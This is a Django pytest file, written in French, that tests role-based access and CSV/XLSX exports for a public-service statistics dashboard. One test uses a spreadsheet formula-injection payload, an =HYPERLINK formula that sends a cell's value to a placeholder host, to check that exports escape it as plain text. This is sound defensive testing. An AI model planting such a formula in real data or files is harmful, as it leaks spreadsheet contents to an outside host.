"""Qui voit quel tableau : chaque refus est éprouvé."""

import csv
import io
from datetime import date

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from guichet.statistiques import agregation
from tests.comptes.conftest import connecter
from tests.comptes.monde import construire_monde
from tests.statistiques.factories import a_paris, accompagnements_au_hasard

pytestmark = pytest.mark.django_db


@pytest.fixture
def monde(db):
    m = construire_monde()
    accompagnements_au_hasard([m.a1, m.a2, m.b], a_paris(2026, 1, 1, 0, 0), 59, 300, operateurs=[m.caf, m.cpam])
    agregation.actualiser()
    return m


def urls(m):
    return {
        "national": reverse("statistiques:national"),
        "dep_a": reverse("statistiques:departement", args=[m.dep_a.code]),
        "dep_b": reverse("statistiques:departement", args=[m.dep_b.code]),
        "caf": reverse("statistiques:operateur", args=[m.caf.code]),
        "caf_b": reverse("statistiques:operateur", args=[m.caf.code]) + f"?departement={m.dep_b.code}",
        "cpam": reverse("statistiques:operateur", args=[m.cpam.code]),
        "local_b": reverse("statistiques:operateur", args=[m.local_b.code]),
        "a1": reverse("statistiques:structure", args=[m.a1.pk]),
        "b": reverse("statistiques:structure", args=[m.b.pk]),
        "a1_csv": reverse("statistiques:structure_export", args=[m.a1.pk, "csv"]),
        "dep_b_xlsx": reverse("statistiques:departement_export", args=[m.dep_b.code, "xlsx"]),
        "cpam_csv": reverse("statistiques:operateur_export", args=[m.cpam.code, "csv"]),
        "national_csv": reverse("statistiques:national_export", args=["csv"]),
    }


TOUT = {"national", "dep_a", "dep_b", "caf", "caf_b", "cpam", "local_b", "a1", "b"}
TOUT |= {"a1_csv", "dep_b_xlsx", "cpam_csv", "national_csv"}
# Personne → pages permises (les autres : 403).
PERMIS = {
    "national": TOUT,
    "auditeur_national": TOUT,
    "staff": TOUT,
    "prefecture_a": {"dep_a", "a1", "a1_csv"},
    "auditeur_a": {"dep_a", "a1", "a1_csv"},
    "referent_caf_a": {"caf"},
    "referent_local_b": {"local_b"},
    "gestionnaire_a1": {"a1", "a1_csv"},
    "conseiller_a1": {"a1", "a1_csv"},
    "conseiller_b": {"b"},
    "sans_role": set(),
}


@pytest.mark.parametrize("personne", sorted(PERMIS))
def test_droits_par_role(client, monde, personne):
    connecter(client, getattr(monde, personne))
    for nom, url in urls(monde).items():
        reponse = client.get(url)
        attendu = 200 if nom in PERMIS[personne] else 403
        assert reponse.status_code == attendu, f"{personne} → {nom} : {reponse.status_code}"


def test_anonyme_renvoye_a_la_connexion(client, monde):
    for url in [reverse("statistiques:tableau"), *urls(monde).values(), reverse("statistiques:donnees_ouvertes")]:
        reponse = client.get(url)
        assert reponse.status_code == 302
        assert reponse["Location"].startswith(reverse("comptes:connexion"))


def test_refus_explicites(client, monde):
    """Les quatre refus de l'issue, un par un."""
    # Un agent d'une autre structure.
    connecter(client, monde.conseiller_b)
    assert client.get(reverse("statistiques:structure", args=[monde.a1.pk])).status_code == 403
    # Un référent qui demande les démarches d'un autre opérateur, ou son opérateur hors de son département.
    connecter(client, monde.referent_caf_a)
    assert client.get(reverse("statistiques:operateur", args=["cpam"])).status_code == 403
    assert client.get(reverse("statistiques:operateur", args=["caf"]) + "?departement=02").status_code == 403
    assert client.get(reverse("statistiques:departement", args=["01"])).status_code == 403
    # La préfecture d'un autre département.
    connecter(client, monde.prefecture_a)
    assert client.get(reverse("statistiques:departement", args=["02"])).status_code == 403
    assert client.get(reverse("statistiques:structure", args=[monde.b.pk])).status_code == 403


def test_accueil(client, monde):
    connecter(client, monde.conseiller_a1)
    reponse = client.get(reverse("statistiques:tableau"))
    assert reponse.status_code == 302 and reponse["Location"] == reverse("statistiques:structure", args=[monde.a1.pk])
    connecter(client, monde.prefecture_a)
    assert client.get(reverse("statistiques:tableau"))["Location"] == reverse("statistiques:departement", args=["01"])
    connecter(client, monde.national)
    reponse = client.get(reverse("statistiques:tableau"))
    assert reponse.status_code == 200
    assert reverse("statistiques:national") in reponse.content.decode()
    connecter(client, monde.sans_role)
    assert client.get(reverse("statistiques:tableau")).status_code == 403


def test_page_du_tableau(client, monde):
    connecter(client, monde.prefecture_a)
    reponse = client.get(
        reverse("statistiques:departement", args=["01"]), {"periode": "mois", "annee": 2026, "mois": 1}
    )
    html = reponse.content.decode()
    t = reponse.context["t"]
    assert t.periode.debut == date(2026, 1, 1)
    assert t.nombre > 0
    assert "<caption>Par opérateur — janvier 2026</caption>" in html
    assert '<th scope="col">Accompagnements</th>' in html
    assert 'class="guichet-barres"' in html and "<line-chart" in html and "<pie-chart" in html
    # Chaque barre porte son libellé ; le tableau des données est replié sous le graphique.
    assert '<span class="guichet-barres__libelle">Les Allocations familiales</span>' in html
    assert '<details class="guichet-donnees">' in html
    assert "vendor/dsfr-chart/DSFRChart.js" in html
    assert "cdn" not in html.lower()
    # Les structures du département, avec un lien vers leur tableau.
    assert reverse("statistiques:structure", args=[monde.a1.pk]) in html


def test_export_csv_et_xlsx(client, monde):
    connecter(client, monde.conseiller_a1)
    parametres = {"periode": "dates", "debut": "2026-01-01", "fin": "2026-02-28"}
    page = client.get(reverse("statistiques:structure", args=[monde.a1.pk]), parametres)
    t = page.context["t"]
    reponse = client.get(reverse("statistiques:structure_export", args=[monde.a1.pk, "csv"]), parametres)
    assert reponse["Content-Type"].startswith("text/csv")
    assert "attachment" in reponse["Content-Disposition"]
    lignes = list(csv.reader(io.StringIO(reponse.content.decode("utf-8-sig")), delimiter=";"))
    assert lignes[0][:4] == ["Rubrique", "Libellé", "Précision", "Accompagnements"]
    periode = next(ligne for ligne in lignes if ligne[0] == "Accompagnements" and ligne[1] == "Période")
    assert int(periode[3]) == t.nombre > 0
    operateurs = {ligne[1]: int(ligne[3]) for ligne in lignes if ligne[0] == "Par opérateur"}
    assert sum(operateurs.values()) == t.nombre

    reponse = client.get(reverse("statistiques:structure_export", args=[monde.a1.pk, "xlsx"]), parametres)
    classeur = load_workbook(io.BytesIO(reponse.content), read_only=True)
    assert "Synthèse" in classeur.sheetnames and "Canal" in classeur.sheetnames
    canal = [row for row in classeur["Canal"].iter_rows(values_only=True)][1:]
    assert sum(row[3] for row in canal) == t.nombre

    assert client.get(reverse("statistiques:structure_export", args=[monde.a1.pk, "pdf"])).status_code == 404


PIEGE = '=HYPERLINK("https://exemple.invalid/?v="&A1;"Cliquez")'


def test_export_une_structure_renommee_en_formule_reste_du_texte(client, monde):
    monde.a1.nom = PIEGE
    monde.a1.save()
    connecter(client, monde.prefecture_a)
    parametres = {"periode": "dates", "debut": "2026-01-01", "fin": "2026-02-28"}
    for url in (
        reverse("statistiques:structure_export", args=[monde.a1.pk, "csv"]),
        reverse("statistiques:departement_export", args=[monde.dep_a.code, "csv"]),
    ):
        contenu = client.get(url, parametres).content.decode("utf-8-sig")
        cellules = [c for ligne in csv.reader(io.StringIO(contenu), delimiter=";") for c in ligne]
        pieges = [c for c in cellules if "HYPERLINK" in c]
        assert pieges and all(c == "'" + PIEGE for c in pieges)
    for url in (
        reverse("statistiques:structure_export", args=[monde.a1.pk, "xlsx"]),
        reverse("statistiques:departement_export", args=[monde.dep_a.code, "xlsx"]),
    ):
        classeur = load_workbook(io.BytesIO(client.get(url, parametres).content))
        cellules = [c for feuille in classeur for ligne in feuille.iter_rows() for c in ligne]
        assert not [c for c in cellules if c.data_type == "f"]  # aucune formule
        pieges = [c.value for c in cellules if "HYPERLINK" in str(c.value)]
        assert pieges and all(v == "'" + PIEGE for v in pieges)
